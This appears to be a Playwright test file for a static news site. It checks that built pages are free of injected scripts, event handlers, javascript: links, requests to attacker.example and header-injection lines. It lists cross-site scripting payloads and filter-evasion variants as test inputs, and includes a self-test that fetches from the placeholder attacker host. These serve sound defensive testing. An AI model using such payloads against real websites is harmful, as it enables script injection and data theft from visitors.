import { readdirSync, readFileSync } from 'node:fs'
import { dirname, join, relative } from 'node:path'
import type { BrowserContext, Page } from '@playwright/test'
import { faultsOfFeeds, faultsOfPage, faultsOfSite, namesBelow } from '../../setup/builtSite.ts'
import { isNight } from '../../setup/night.ts'
import { ATTACKS, ATTACKS_CAGE } from '../../setup/sites.ts'
import { expect, settled, takenOver, test, type Watch } from '../../setup/test.ts'
import { HEADLINES, NAMED, shown } from './content.ts'
import { TEXTS } from './texts.ts'

/** Makes what must not happen a message of `watch`. */
async function raiseAlarms(context: BrowserContext, watch: Watch): Promise<void> {
  await context.addInitScript(() => {
    Object.assign(window, { attacked: () => console.error('The code of an attack ran') })
  })
  context.on('dialog', (dialog) => {
    watch.messages.push(`A dialog opened: ${dialog.message()}`)
    return dialog.dismiss()
  })
}

/** What must not be on a page; runs in the browser. */
function foundOn(): string[] {
  const forbidden = document.querySelectorAll(
    'main script, main style, main iframe, main base, main meta, main object, main embed',
  )
  const found = [...forbidden].map((element) => element.outerHTML)
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc') found.push(`${name}=${value}`)
      if (!/^(.+:)?(href|src|action|formaction|data|poster)$/.test(name)) continue
      // A feed reader is opened with an address of the web.
      const url = URL.parse(value.replace(/^feed:(?=https?:)/, ''), document.baseURI)
      const isLoaded = name !== 'href' || element.localName === 'link'
      const isBad = isLoaded && url?.hostname === 'attacker.example'
      if (isBad || !/^https?:$/.test(url?.protocol ?? '')) found.push(`${name}=${value}`)
    }
  }
  return found
}

/** The addresses of this site that a page links to; runs in the browser. */
function linksOf(): string[] {
  const links = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
  const pages = links.filter(
    (a) => a.origin === location.origin && !/\/feeds?\.(xml|json|opml)$/.test(a.href),
  )
  return pages.map((a) => a.pathname)
}

/** Opens a page, checks it, and says where it leads. */
async function visit(page: Page, address: string): Promise<string[]> {
  await page.goto(address)
  await takenOver(page)
  const heading = page.getByRole('heading', { level: 1 })
  await expect(heading).toBeAttached()
  await expect(page.getByRole('banner')).toBeVisible()
  await expect(page).toHaveURL(address)
  const headline = headlineOf(address)
  if (headline !== undefined) {
    await expect(heading).toBeVisible()
    await expect.poll(async () => shown((await heading.textContent()) ?? '')).toBe(headline)
  }
  expect(await page.evaluate(foundOn), address).toEqual([])
  return page.evaluate(linksOf)
}

const STORY = '/news/'
const idOf = (address: string): string => decodeURIComponent(address.slice(STORY.length))

function headlineOf(address: string): string | undefined {
  if (!address.startsWith(STORY)) return undefined
  return HEADLINES.get(idOf(address)) ?? NAMED.get(idOf(address))
}

/** Opening each story, topic, publisher and day takes minutes: left to the night, but for every sixth or sixteenth. */
const MANY = /^\/(news|topic|publisher|day)\//
const isOpened = (address: string, i: number): boolean =>
  isNight || !MANY.test(address) || i % (address.startsWith(STORY) ? 6 : 16) === 0

/** Visits every page that links lead to, of stories, topics, publishers and days those that there is time for, in several tabs. Gives all that were found. */
async function visitAll(context: BrowserContext, start: readonly string[]): Promise<Set<string>> {
  const tabs = await Promise.all([1, 2, 3].map(() => context.newPage()))
  const seen = new Set(start)
  let next = [...start]
  while (next.length > 0) {
    const waiting = next.values()
    const found: string[] = []
    await Promise.all(
      tabs.map(async (tab) => {
        for (const address of waiting) {
          const links = await test.step(address, () => visit(tab, address))
          found.push(...links)
        }
      }),
    )
    const fresh = [...new Set(found)].filter((address) => !seen.has(address))
    for (const address of fresh) seen.add(address)
    next = fresh.filter(isOpened)
  }
  return seen
}

test('what an attack would do is seen', async ({ context, page, watch }) => {
  watch.expectDepartures()
  await raiseAlarms(context, watch)
  await page.goto('/')
  expect(await page.evaluate(foundOn)).toEqual([])
  await page.evaluate(() => {
    document.querySelector('main')?.append(document.createElement('embed'))
    document.querySelector('main a')?.setAttribute('href', 'javascript:attacked()')
    new Image().src = 'https://attacker.example/pixel.gif'
    fetch('https://attacker.example/').catch(() => undefined)
    Reflect.get(window, 'attacked')()
    alert('hello')
  })
  expect(await page.evaluate(foundOn)).toEqual(['<embed>', 'href=javascript:attacked()'])
  await expect
    .poll(() => watch.foreign.map((request) => request.url()))
    .toContain('https://attacker.example/pixel.gif')
  for (const message of [
    'The code of an attack ran',
    'A dialog opened: hello',
    'Against the policy: connect-src https://attacker.example/',
  ]) {
    await expect.poll(() => watch.messages.some((text) => text.startsWith(message))).toBe(true)
  }
  watch.messages.splice(0)
})

test('no attack does anything on any page, and all of them are read as texts', async ({
  context,
  watch,
}) => {
  test.setTimeout(600_000)
  // A picture at a path where this site has none.
  watch.expectFailures()
  await raiseAlarms(context, watch)
  const found = await visitAll(context, ['/', '/topics', '/archive'])

  const stories = [...found].filter((address) => address.startsWith(STORY)).map(idOf)
  expect(stories.length).toBeGreaterThan(200)
  expect(stories).toEqual(expect.arrayContaining([...HEADLINES.keys()]))
  expect(watch.messages.filter((message) => !message.startsWith('Failed to load'))).toEqual([])
  const hosts = watch.foreign.map((request) => new URL(request.url()).hostname)
  expect(new Set(hosts)).toEqual(new Set(['pictures.example']))
  expect(await context.cookies()).toEqual([])
})

test('the topics are there by the names that they have, as texts', async ({ page }) => {
  await page.goto('/topics')
  await settled(page)
  const names = await page.getByRole('main').getByRole('link').allTextContents()
  const text = shown(names.join(' '))
  for (const name of TEXTS) expect(text).toContain(shown(name))
})

for (const html of [
  '<script>attacked()</script>',
  '<script type="application/json">{"a": "<!--<script>"}</script>',
  '<script src="https://attacker.example/a.js"></script>',
  '<p style="color: red">a',
  '<img src=x onerror=attacked()>',
  '<a href=" java\nscript:attacked()">a</a>',
  '<svg><a xlink:href="javascript:attacked()" /></svg>',
  '<template><style></style></template>',
  '<noscript><style></style></noscript>',
  '<noscript><p title="</noscript><script>attacked()</script>">',
  '<meta http-equiv=refresh content=0>',
]) {
  test(`the check of pages finds what is wrong with ${html}`, () => {
    expect(faultsOfPage(`<title>A</title>${html}`)).not.toEqual([])
  })
}

test('no page of the build has code or style of its own, and no file a name that leads elsewhere', () => {
  expect(faultsOfSite(ATTACKS.outDir)).toEqual([])
})

test('the feeds of the build are whole', async ({ page }) => {
  expect(await faultsOfFeeds(page, ATTACKS.outDir)).toEqual([])
})

test('no file is outside the folder of the build', () => {
  for (let folder = ATTACKS.outDir; folder !== ATTACKS_CAGE; folder = dirname(folder)) {
    const [name] = relative(dirname(folder), folder).split('/')
    expect(readdirSync(dirname(folder))).toEqual([name])
  }
})

test('no file has a line that would be a header of its own', () => {
  for (const name of namesBelow(ATTACKS.outDir)) {
    expect(readFileSync(join(ATTACKS.outDir, name), 'utf8'), name).not.toMatch(/^\s*Set-Cookie/m)
  }
})
